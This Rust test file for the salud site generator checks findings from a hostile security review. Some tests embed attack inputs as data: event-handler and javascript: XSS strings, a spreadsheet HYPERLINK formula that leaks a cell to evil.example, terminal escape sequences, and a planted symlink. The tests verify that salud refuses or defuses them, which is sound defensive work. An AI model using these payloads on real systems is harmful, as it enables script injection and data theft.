//! The findings of the hostile review of salud 0.1.0 that concern loading, rendering and
//! writing a site (the preview server, imports, text layout and the PDF have theirs beside
//! their own tests). Each test is named after its finding: S security, D data loss or wrong
//! data, H hangs, M validation and messages.

mod common;

use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::*;

fn append(path: &Path, text: &str) {
    let mut all = fs::read_to_string(path).unwrap();
    all.push_str(text);
    fs::write(path, all).unwrap();
}

fn replace_in(path: &Path, from: &str, to: &str) {
    let text = read(path);
    assert!(text.contains(from), "{} has no {from:?}", path.display());
    fs::write(path, text.replacen(from, to, 1)).unwrap();
}

/// A site without PDFs and PNGs, for tests that need many builds.
fn fast(site: &Path) {
    append(&site.join("config.toml"), "pdf = false\nchart_png = false\nsocial_images = false\n");
}

fn fails_with(site: &Path, args: &[&str], expected: &[&str]) -> String {
    let out = salud_in(site, args);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{args:?} should fail: {err}{}", stdout(&out));
    for part in expected {
        assert!(err.contains(part), "{part:?} missing from:\n{err}");
    }
    err
}

#[test]
fn s1_heading_attributes_carry_no_event_handlers() {
    let site = site_with("review-s1", None);
    fs::write(
        site.join("content/about.md"),
        "## Hi {#x tabindex=0 autofocus=1 onfocus=document.body.id=1337}\n\n### There {.note #there onclick=alert(1)}\n",
    )
    .unwrap();
    let out = salud_in(&site, &["build"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let page = read(&site.join("public/about/index.html"));
    assert!(page.contains("<h2 id=\"x\">Hi</h2>"), "{page}");
    assert!(page.contains("<h3 id=\"there\" class=\"note\">There</h3>"), "{page}");
    for attribute in ["onfocus", "onclick", "autofocus", "tabindex"] {
        assert!(!page.contains(attribute), "{attribute} reached the page");
    }
}

#[test]
fn s2_script_links_in_narratives_and_sources_are_errors() {
    let site = site_with("review-s2", None);
    fs::write(site.join("content/about.md"), "# About\n\nRead [this](javascript:alert(1)) first.\n").unwrap();
    replace_in(
        &site.join("data/sources.toml"),
        "url = \"https://data.worldbank.org/\"",
        "url = \"javascript:alert(document.domain)\"",
    );
    fails_with(
        &site,
        &["build"],
        &[
            "the url of the source `wdi` is not a web address",
            "data/sources.toml:3:7",
            "links may use http:, https:, mailto:",
        ],
    );
    replace_in(&site.join("data/sources.toml"), "javascript:alert(document.domain)", "https://data.worldbank.org/");
    let err = fails_with(
        &site,
        &["build"],
        &["the link `javascript:alert(1)` is not a web or e-mail address", "content/about.md:3:13"],
    );
    assert!(!site.join("public").exists(), "{err}");
    // `salud check` finds the same, not only a link that "leads nowhere".
    let out = salud_in(&site, &["check"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stdout(&out).contains("is not a web or e-mail address"), "{}", stdout(&out));
}

#[test]
fn s3_csv_cells_that_a_spreadsheet_would_run_are_made_inert() {
    let site = site_with("review-s3", None);
    replace_in(
        &site.join("data/places/otherland.toml"),
        "name = \"Otherland\"",
        "name = '=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")'",
    );
    let out = salud_in(&site, &["build"]);
    assert!(out.status.success(), "{}", stderr(&out));
    for csv in ["public/otherland/salud-data-otherland.csv", "public/salud-data-all.csv"] {
        let text = read(&site.join(csv));
        let rows: Vec<&str> = text.lines().filter(|l| l.contains("HYPERLINK")).collect();
        assert!(!rows.is_empty(), "{csv}: {text}");
        for row in rows {
            assert!(row.starts_with("\"'=HYPERLINK("), "{csv}: {row}");
        }
    }
    // The page shows the name as it was written.
    assert!(read(&site.join("public/otherland/index.html")).contains("<h1>=HYPERLINK("));
}

#[test]
fn s4_control_characters_never_reach_the_terminal() {
    let site = site_with("review-s4", None);
    // A raw escape sequence: a TOML error shows the line it is on.
    fs::write(site.join("data/places/evil.toml"), "name = \"Evil\u{1b}]0;PWNED\u{7}\u{1b}[2J\"\n").unwrap();
    // The same written as TOML escapes: a valid string whose name is refused.
    fs::write(site.join("data/places/evil2.toml"), "name = \"Evil\\u001b]0;PWNED\\u0007\\u001b[2J\"\n").unwrap();
    for command in ["build", "check"] {
        let out = salud_in(&site, &[command]);
        assert_eq!(out.status.code(), Some(1));
        let shown = format!("{}{}", stdout(&out), stderr(&out));
        assert!(!shown.contains('\u{1b}') && !shown.contains('\u{7}'), "{command}: {shown:?}");
        assert!(shown.contains("Evil\\u001b]0;PWNED\\u0007"), "{command}: {shown}");
        assert!(
            shown.contains("data/places/evil2.toml:1:8") && shown.contains("control character (U+001B)"),
            "{shown}"
        );
    }
}

/// A site of 150 places with data, so a build takes long enough for another to start
/// during it.
fn many_places(name: &str) -> std::path::PathBuf {
    // PDFs and PNGs on: the build takes a few seconds, long enough for the others to start.
    let site = site_with(name, None);
    for i in 0..150 {
        fs::write(
            site.join(format!("data/places/place-{i:03}.toml")),
            format!(
                "name = \"Place {i}\"\n\n[[series]]\nindicator = \"under5_mortality\"\nsource = \"wdi\"\n\n[series.values]\n2010 = {}\n2015 = {}\n2020 = {}\n",
                30 + i % 20,
                25 + i % 15,
                20 + i % 10
            ),
        )
        .unwrap();
    }
    site
}

#[test]
fn d1_concurrent_builds_of_one_output_each_leave_a_whole_site() {
    let site = many_places("review-d1");
    let reference = scratch("review-d1-reference");
    let out = salud_in(&site, &["build", "--output", &reference.join("public").to_string_lossy()]);
    assert!(out.status.success(), "{}", stderr(&out));
    for builds in [2, 3] {
        let _ = fs::remove_dir_all(site.join("public"));
        let children: Vec<_> = (0..builds)
            .map(|i| {
                if i > 0 {
                    std::thread::sleep(Duration::from_millis(300));
                }
                Command::new(env!("CARGO_BIN_EXE_salud"))
                    .current_dir(&site)
                    .arg("build")
                    .stdout(Stdio::piped())
                    .stderr(Stdio::piped())
                    .spawn()
                    .unwrap()
            })
            .collect();
        for child in children {
            let out = child.wait_with_output().unwrap();
            assert!(out.status.success(), "{builds} builds at once: {}", stderr(&out));
        }
        assert_same_files(&site.join("public"), &reference.join("public"));
        let leftovers: Vec<String> = fs::read_dir(&site)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n.contains("salud-new") || n.contains("salud-old"))
            .collect();
        assert!(leftovers.is_empty(), "{leftovers:?}");
    }
}

#[test]
fn d3_two_things_at_one_address_are_errors_naming_both() {
    let site = site_with("review-d3", None);
    append(&site.join("config.toml"), "\n[languages.es]\ntitle = \"Perfiles\"\n");
    fs::write(site.join("data/places/es.toml"), "name = \"España\"\n").unwrap();
    fs::write(site.join("data/places/indicators.toml"), "name = \"Indicators\"\n").unwrap();
    fails_with(
        &site,
        &["build"],
        &[
            "data/places/es.toml",
            "published at es/, which is the address of the pages in \"es\"",
            "data/places/indicators.toml",
            "which is the address of salud's page of indicators",
        ],
    );
    assert!(!site.join("public").exists());
    // A plain page where the list of indicators goes (it was dropped, still in the menu).
    fs::remove_file(site.join("data/places/indicators.toml")).unwrap();
    fs::remove_file(site.join("data/places/es.toml")).unwrap();
    fs::write(site.join("content/indicators.md"), "# Our indicators\n").unwrap();
    fails_with(&site, &["build"], &["content/indicators.md", "which is the address of salud's page of indicators"]);
    assert!(!site.join("public").exists());

    // A file of the site where salud writes a page of its own.
    let site = site_with("review-d3-files", None);
    fs::write(site.join("content/testland/index.html"), "<p>mine</p>").unwrap();
    fails_with(
        &site,
        &["build"],
        &[
            "testland/index.html would be written twice",
            "a page, chart or download salud makes",
            "content/testland/index.html",
        ],
    );
    fs::remove_file(site.join("content/testland/index.html")).unwrap();
    fs::create_dir_all(site.join("static")).unwrap();
    fs::write(site.join("static/index.html"), "<p>mine</p>").unwrap();
    fails_with(&site, &["build"], &["index.html would be written twice", "static/index.html"]);
    fs::write(site.join("content/notes.txt"), "a").unwrap();
    fs::rename(site.join("static/index.html"), site.join("static/notes.txt")).unwrap();
    fails_with(&site, &["build"], &["notes.txt would be written twice", "content/notes.txt", "static/notes.txt"]);
    assert!(!site.join("public").exists());
    // The theme's files are the one thing a site's static/ may replace.
    fs::remove_file(site.join("content/notes.txt")).unwrap();
    fs::write(site.join("static/style.css"), "body { color: teal }").unwrap();
    let out = salud_in(&site, &["build"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(read(&site.join("public/style.css")), "body { color: teal }");
}

#[test]
fn d4_units_that_slug_alike_get_a_chart_each() {
    let site = site_with("review-d4", None);
    append(
        &site.join("data/indicators.toml"),
        "\n[child_wasting]\nname = \"Child wasting\"\nunit = \"% of children (under 5)\"\nmeasure = \"percent\"\ncategory = \"nutrition\"\n",
    );
    append(
        &site.join("data/places/testland.toml"),
        "\n[[series]]\nindicator = \"child_stunting\"\nsource = \"endes\"\n\n[series.values]\n2020 = 12.5\n2021 = 11\n\n\
         [[series]]\nindicator = \"child_wasting\"\nsource = \"endes\"\n\n[series.values]\n2020 = 3.5\n2021 = 2\n",
    );
    let out = salud_in(&site, &["build"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let charts = site.join("public/testland/charts");
    let stunting = read(&charts.join("nutrition-of-children-under-5.svg"));
    let wasting = read(&charts.join("nutrition-of-children-under-5-2.svg"));
    assert!(stunting.contains("Chronic child malnutrition") && !stunting.contains("Child wasting"));
    assert!(wasting.contains("Child wasting") && !wasting.contains("Chronic child malnutrition"));
    let page = read(&site.join("public/testland/index.html"));
    // Each chart once, each with its own figure and download.
    assert_eq!(page.matches("\"chart-nutrition-of-children-under-5\"").count(), 1, "{page}");
    assert_eq!(page.matches("\"chart-nutrition-of-children-under-5-2\"").count(), 1, "{page}");
    assert_eq!(page.matches("charts/nutrition-of-children-under-5.svg").count(), 2, "{page}");
    assert_eq!(page.matches("charts/nutrition-of-children-under-5-2.svg").count(), 2, "{page}");
}

#[test]
fn d5_an_output_among_the_sites_own_files_is_refused() {
    let site = site_with("review-d5", None);
    for output in ["templates", "content/out", "data", "static/site", "themes/x"] {
        let err = fails_with(&site, &["build", "--output", output], &["cannot use", "which the site is built from"]);
        assert!(err.contains(output.split('/').next().unwrap()), "{err}");
        assert!(!site.join(output).join("index.html").exists(), "{output}");
    }
    assert!(!site.join("templates").exists() && !site.join("static").exists());
}

#[cfg(unix)]
#[test]
fn h1_a_named_pipe_is_refused_not_waited_on() {
    let site = site_with("review-h1", None);
    let made = Command::new("mkfifo").arg(site.join("data/places/chile.toml")).status().unwrap();
    assert!(made.success());
    let mut child = Command::new(env!("CARGO_BIN_EXE_salud"))
        .current_dir(&site)
        .arg("build")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > Duration::from_secs(60) {
            child.kill().unwrap();
            panic!("salud build waited on the named pipe");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.contains("data/places/chile.toml") && err.contains("not a regular file"), "{err}");
}

#[test]
fn m1_a_control_character_in_a_name_is_an_error_at_its_line() {
    let site = site_with("review-m1", None);
    fast(&site);
    replace_in(&site.join("data/places/otherland.toml"), "name = \"Otherland\"", "name = \"Other\\u0000land\"");
    fails_with(
        &site,
        &["build"],
        &["the place name contains an invisible control character (U+0000)", "data/places/otherland.toml:1:8"],
    );
    replace_in(
        &site.join("data/indicators.toml"),
        "unit = \"per 10,000 population\"",
        "unit = \"per 10,000\\u0008 population\"",
    );
    fails_with(
        &site,
        &["build"],
        &[
            "the unit of `physicians_density` contains an invisible control character (U+0008)",
            "data/indicators.toml:16:8",
        ],
    );
    // A note (not a name) with one still gives valid SVG: XML cannot hold the character.
    let site = site_with("review-m1-note", None);
    fast(&site);
    replace_in(
        &site.join("data/places/testland.toml"),
        "source = \"wdi\"\n",
        "source = \"wdi\"\nnote = \"Revised\\u0001 in 2022\"\n",
    );
    let out = salud_in(&site, &["build"]);
    assert!(out.status.success(), "{}", stderr(&out));
    for entry in fs::read_dir(site.join("public/testland/charts")).unwrap() {
        let svg = fs::read_to_string(entry.unwrap().path()).unwrap();
        assert!(!svg.contains('\u{1}'), "a control character in an SVG");
    }
}

#[test]
fn m2_a_name_or_unit_too_long_for_a_file_name_is_an_error() {
    let site = site_with("review-m2", None);
    let long = "per 1,000 ".repeat(43);
    replace_in(&site.join("data/indicators.toml"), "unit = \"per 10,000 population\"", &format!("unit = \"{long}\""));
    for command in ["build", "check"] {
        let err = fails_with(&site, &[command], &[]);
        let shown = format!("{err}{}", stdout(&salud_in(&site, &[command])));
        assert!(
            shown.contains("the unit of `physicians_density` is 430 characters long; salud accepts up to 80")
                && shown.contains("data/indicators.toml:"),
            "{command}: {shown}"
        );
        assert!(!shown.contains("File name too long"), "{shown}");
    }
}

#[test]
fn m3_huge_values_are_refused_and_minus_zero_is_zero() {
    let site = site_with("review-m3", None);
    fast(&site);
    replace_in(&site.join("data/places/testland.toml"), "2021 = 19.25", "2021 = 1e300");
    fails_with(
        &site,
        &["build"],
        &["1e300 is far larger than any value of `under5_mortality`", "data/places/testland.toml:11:8"],
    );
    replace_in(&site.join("data/places/testland.toml"), "2021 = 1e300", "2021 = -0.0");
    let out = salud_in(&site, &["build"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let csv = read(&site.join("public/testland/salud-data-testland.csv"));
    assert!(csv.contains(",2021,0,") && !csv.contains("-0"), "{csv}");
    for entry in fs::read_dir(site.join("public/testland/charts")).unwrap() {
        let svg = fs::read_to_string(entry.unwrap().path()).unwrap();
        assert!(!svg.contains("inf") && !svg.contains(">-0<"), "{svg}");
    }
}

#[test]
fn m4_the_sites_address_is_checked() {
    let site = site_with("review-m4", None);
    for (base, expected) in [
        ("https://", "has no host name"),
        ("javascript:alert(1)", "is not a web address starting with https:// or http://"),
        ("https://example.org/my site/", "contains a space"),
        ("https://example.org/\\\"x", "contains the character \""),
    ] {
        let config = site.join("config.toml");
        let text = read(&config).lines().filter(|l| !l.starts_with("base_url")).collect::<Vec<_>>().join("\n");
        fs::write(&config, format!("base_url = \"{base}\"\n{text}\n")).unwrap();
        fails_with(&site, &["build"], &[expected, "config.toml:1:1", "https://example.org/health/"]);
    }
    let config = site.join("config.toml");
    let text = read(&config).lines().filter(|l| !l.starts_with("base_url")).collect::<Vec<_>>().join("\n");
    fs::write(&config, format!("{text}\n")).unwrap();
    fails_with(&site, &["build", "--base-url", "https://"], &["--base-url", "has no host name"]);
    let out = salud_in(&site, &["build", "--base-url", "https://example.org/health"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(read(&site.join("public/sitemap.xml")).contains("<loc>https://example.org/health/testland/</loc>"));
}

#[test]
fn m9_stale_after_years_must_be_a_number_of_years() {
    let site = site_with("review-m9", None);
    replace_in(&site.join("config.toml"), "stale_after_years = 50", "stale_after_years = -1");
    fails_with(&site, &["build"], &["stale_after_years = -1 is not a number of years", "config.toml:5:1"]);
}

#[test]
fn d1_two_imports_into_one_site_take_turns() {
    let site = site_with("review-d1-import", None);
    let input = scratch("review-d1-import-input");
    // Two World Bank files for one country, with different years.
    let mut files = Vec::new();
    for (n, years) in [(1990..2005), (2005..2020)].into_iter().enumerate() {
        let file = input.join(format!("part{n}.csv"));
        let head: Vec<String> = years.clone().map(|y| format!("\"{y}\"")).collect();
        let values: Vec<String> = years.map(|y| format!("\"{}.5\"", 20 + y % 7)).collect();
        fs::write(
            &file,
            format!(
                "\"Data Source\",\"World Development Indicators\",\n\n\"Last Updated Date\",\"2024-01-01\",\n\n\
                 \"Country Name\",\"Country Code\",\"Indicator Name\",\"Indicator Code\",{}\n\
                 \"Aruba\",\"ABW\",\"Mortality rate, under-5 (per 1,000 live births)\",\"SH.DYN.MORT\",{}\n",
                head.join(","),
                values.join(",")
            ),
        )
        .unwrap();
        files.push(file);
    }
    let import = |file: &Path| {
        Command::new(env!("CARGO_BIN_EXE_salud"))
            .current_dir(&site)
            .arg("import")
            .arg(file)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    };
    // While another process holds the site's import lock, an import waits and says so.
    fs::create_dir_all(site.join(".salud-cache")).unwrap();
    let held = fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open(site.join(".salud-cache/import.lock"))
        .unwrap();
    held.lock().unwrap();
    let mut first = import(&files[0]);
    std::thread::sleep(Duration::from_millis(1500));
    assert!(first.try_wait().unwrap().is_none(), "the import did not wait for the lock");
    let second = import(&files[1]);
    drop(held);
    for child in [first, second] {
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    }
    // Each read the other's result: all 30 years are there, none lost to the other's write.
    let text = read(&site.join("data/places/aruba.toml"));
    assert_eq!(text.lines().filter(|l| l.starts_with(|c: char| c.is_ascii_digit())).count(), 30, "{text}");
}

/// Small things a careful user meets first (issue 14, item 8).
#[test]
fn a_decimal_comma_a_source_in_capitals_and_a_tiny_value_are_told_plainly() {
    let site = site_with("review-small-things", None);
    fast(&site);
    replace_in(&site.join("data/places/testland.toml"), "2021 = 19.25", "2021 = 19,25");
    let err = fails_with(
        &site,
        &["build"],
        &["19,25 is not a number: TOML writes decimals with a point", "write 19.25, with a point"],
    );
    assert!(err.contains("data/places/testland.toml:11:"), "{err}");
    replace_in(&site.join("data/places/testland.toml"), "2021 = 19,25", "2021 = 19.25");
    replace_in(&site.join("data/places/testland.toml"), "source = \"profile\"", "source = \"PROFILE\"");
    fails_with(&site, &["build"], &["`PROFILE` is not a source", "did you mean `profile`?"]);
    replace_in(&site.join("data/places/testland.toml"), "source = \"PROFILE\"", "source = \"profile\"");
    // 0.04 with one decimal is "<0.1", not "0.0".
    replace_in(&site.join("data/places/testland.toml"), "2021 = 4.53341627", "2021 = 0.04");
    let out = salud_in(&site, &["build"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let page = read(&site.join("public/testland/index.html"));
    assert!(page.contains("&lt;0.1") && !page.contains(">0.0<"), "{page}");
    // The search results box is hidden until there are results, whatever the layout says.
    assert!(read(&site.join("public/style.css")).contains("[hidden] { display: none !important; }"));
}

#[test]
fn a_site_with_one_place_says_1_place() {
    let site = site_with("review-one-place", None);
    fast(&site);
    fs::remove_file(site.join("data/places/otherland.toml")).unwrap();
    let out = salud_in(&site, &["build"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let home = read(&site.join("public/index.html"));
    assert!(home.contains("1 place; its regions") && !home.contains("1 places"), "{home}");
}

#[cfg(unix)]
#[test]
fn d5_a_link_as_the_output_folder_is_refused_and_what_it_points_to_is_kept() {
    let site = site_with("review-d5-link", None);
    let elsewhere = scratch("review-d5-link-target");
    fs::write(elsewhere.join("index.html"), "someone's own page").unwrap();
    fs::write(elsewhere.join(".salud-output"), "").unwrap();
    std::os::unix::fs::symlink(&elsewhere, site.join("public")).unwrap();
    fails_with(&site, &["build"], &["public", "it is a link to another folder"]);
    assert_eq!(read(&elsewhere.join("index.html")), "someone's own page");
    // A link planted where the fallback swap keeps the old output is never followed either.
    fs::remove_file(site.join("public")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, site.join(".public.salud-old")).unwrap();
    let out = salud_in(&site, &["build"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(read(&elsewhere.join("index.html")), "someone's own page");
}
